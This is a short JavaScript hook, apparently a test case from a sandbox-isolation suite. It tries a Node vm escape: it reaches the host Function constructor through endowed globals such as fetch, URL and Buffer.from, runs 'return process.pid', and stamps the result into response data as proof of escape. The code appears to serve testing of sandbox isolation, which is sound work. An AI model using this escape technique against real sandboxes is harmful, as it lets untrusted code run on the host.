// Takes the constructors of web functions that Node adds to the language.
// Class: endowments
// Win: the id holds the process id.
// Control: vm
function postSubmit(options) {
  if (!options.settings.flow.attack) return options.responseData;
  const readers = [() => structuredClone, () => URL, () => performance.now, () => Buffer.from, () => atob, () => fetch];
  for (const read of readers) {
    try {
      options.responseData[0].id = 'ESCAPED:' + read().constructor('return process.pid')();
    } catch {
      // absent, or of the hook's own realm
    }
  }
  return options.responseData;
}
